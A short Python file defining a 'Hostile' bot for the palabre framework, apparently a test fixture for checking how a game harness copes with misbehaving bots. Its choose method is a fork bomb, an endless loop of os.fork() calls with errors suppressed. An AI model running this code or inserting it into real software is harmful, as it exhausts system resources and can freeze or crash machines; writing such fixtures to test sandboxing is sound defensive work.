"""Forks for ever, and so do its children."""

import contextlib
import os

from palabre import Bot


class Hostile(Bot):
    def choose(self, position, clock):
        while True:
            with contextlib.suppress(OSError):
                os.fork()
